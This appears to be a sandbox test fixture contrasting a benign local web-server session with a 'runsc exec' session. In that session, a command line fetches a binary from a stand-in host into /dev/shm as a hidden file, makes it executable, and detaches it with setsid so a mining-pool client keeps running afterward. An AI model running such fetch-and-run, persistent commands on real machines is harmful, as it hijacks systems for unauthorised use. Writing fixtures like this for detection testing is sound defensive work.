# a service that does its work, and a session of runsc exec in which a pool client is downloaded, started and left behind
#http 203.0.113.77:8017
#pool 198.51.100.120:443:err
#exec 3 cd /dev/shm; curl -so .x http://203.0.113.77:8017/strat; chmod +x .x; setsid ./.x 198.51.100.120 443 1500 6 >/dev/null 2>&1 & sleep 1
python3 -m http.server 8080 --bind 127.0.0.1 >/dev/null 2>&1 & for i in 1 2 3 4 5 6 7 8 9; do sleep 2; curl -so /dev/null http://127.0.0.1:8080/; done; kill %1
